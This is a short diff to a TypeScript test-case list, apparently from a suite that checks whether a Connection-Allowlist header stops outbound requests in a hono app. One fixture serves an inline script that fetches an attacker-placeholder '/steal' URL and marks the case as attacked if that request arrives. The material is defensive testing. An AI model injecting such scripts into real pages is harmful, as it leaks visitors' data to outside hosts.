@@ -7,8 +7,7 @@ export const CONNECTIONS: readonly Case[] = [
     header: 'Connection-Allowlist',
     option: 'connectionAllowlist',
     framework: 'hono',
-    main: true,
-    policy: { connectionAllowlist: '(response-origin)' },
+    policy: { connectionAllowlist: true },
     site: (at) => ({ '/': `<script>fetch('${at.attacker}/steal', { mode: 'no-cors' }).catch(() => {})</script>` }),
     attacked: ({ received }) => received.attacker.some(({ path }) => path === '/steal'),
     except: {
